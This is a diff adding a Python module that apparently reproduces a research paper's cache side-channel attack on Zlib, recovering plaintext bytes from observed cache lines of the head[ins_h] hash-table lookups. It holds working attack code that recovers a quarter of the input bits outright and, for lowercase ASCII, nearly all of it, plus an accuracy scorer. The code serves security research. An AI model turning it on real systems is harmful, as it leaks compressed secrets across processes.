@@ -1,0 +1,104 @@
+"""Plaintext recovery from the Zlib ``head[ins_h]`` trace (Section IV-B).
+
+The observed value at position ``i`` is the cache line of
+``head + 2 * ins_h_i`` where::
+
+    ins_h_i = (w[i] << 10  ^  w[i+1] << 5  ^  w[i+2]) & 0x7fff
+
+``head`` is cache-line aligned, so the attacker learns
+``ins_h_i & ~0x1f`` — bits 5..14.  Within those:
+
+* bits 8-9 come only from ``w[i+1]`` (its bits 3-4): two bits per byte
+  leak unconditionally — "the attacker ... can recover 25 % of the
+  input plaintext data";
+* bits 5-7 mix ``w[i+1]`` bits 0-2 with ``w[i+2]`` bits 5-7, and bits
+  10-14 mix ``w[i]`` bits 0-4 with ``w[i+1]`` bits 5-7 — so when the top
+  3 bits of every byte are known a priori (lowercase ASCII: ``0b011``)
+  the whole input unravels.
+"""
+
+from __future__ import annotations
+
+from typing import Optional
+
+HASH_MASK = 0x7FFF
+LINE_MASK_BITS = 5  # head is aligned; elem size 2 hides ins_h bits 0..4
+
+
+def _ins_h_high(observed_line: int, head_base: int) -> int:
+    """Recover ``ins_h & ~0x1f`` from one observed cache line."""
+    if head_base % 64 != 0:
+        raise ValueError("recovery assumes a cache-line-aligned head array")
+    return ((observed_line << 6) - head_base) >> 1
+
+
+def recover_direct_bits(
+    observations: list[int], head_base: int, n: int
+) -> list[tuple[int, int]]:
+    """The unconditional 25 % recovery.
+
+    Args:
+        observations: cache line of the ``head`` access for positions
+            ``0 .. n-3``, in order.
+        head_base: base address of ``head`` (threat model: known).
+        n: plaintext length.
+
+    Returns:
+        per-byte ``(known_mask, known_bits)``; for bytes ``1..n-2`` the
+        mask is ``0b00011000`` (bits 3-4), elsewhere 0.
+    """
+    out: list[tuple[int, int]] = [(0, 0)] * n
+    for i, line in enumerate(observations):
+        h = _ins_h_high(line, head_base)
+        bits_34 = (h >> 8) & 0b11  # ins_h bits 8-9 = w[i+1] bits 3-4
+        out[i + 1] = (0b11000, bits_34 << 3)
+    return out
+
+
+def recover_known_high_bits(
+    observations: list[int],
+    head_base: int,
+    n: int,
+    high_bits: int = 0b011,
+) -> list[Optional[int]]:
+    """Full recovery when bits 5-7 of every byte are known a priori.
+
+    Works backwards so ``w[i+2]``'s high bits (known) peel ``w[i+1]``'s
+    low bits out of the xor, then ``w[i+1]`` (now complete) peels
+    ``w[i]``'s low bits at the first position.
+
+    Returns:
+        the plaintext as a list of ints, ``None`` where a byte cannot be
+        determined (the final byte's low 5 bits never reach visible
+        address bits — the paper's "minor losses").
+    """
+    known = high_bits << 5
+    out: list[Optional[int]] = [None] * n
+    if n < 3 or not observations:
+        return out
+
+    for i, line in enumerate(observations):
+        h = _ins_h_high(line, head_base)
+        # w[i+1] bits 3-4 directly (ins_h bits 8-9):
+        b34 = (h >> 8) & 0b11
+        # w[i+1] bits 0-2 = h bits 5-7 xor w[i+2] bits 5-7 (known):
+        b02 = ((h >> 5) ^ (known >> 5)) & 0b111
+        out[i + 1] = known | (b34 << 3) | b02
+
+    # Byte 0: obs_0 bits 10-14 = w0 bits 0-4 xor (w1 bits 5-7 at 10-12).
+    h0 = _ins_h_high(observations[0], head_base)
+    w1_high = (out[1] or known) >> 5
+    low5 = ((h0 >> 10) ^ w1_high) & 0b11111
+    out[0] = known | low5
+    # Byte n-1: only its (assumed-known) high bits ever leak.
+    return out
+
+
+def accuracy(recovered: list[Optional[int]], truth: bytes) -> float:
+    """Fraction of plaintext bytes recovered exactly."""
+    if not truth:
+        return 1.0
+    good = sum(
+        1 for got, want in zip(recovered, truth) if got is not None and got == want
+    )
+    return good / len(truth)
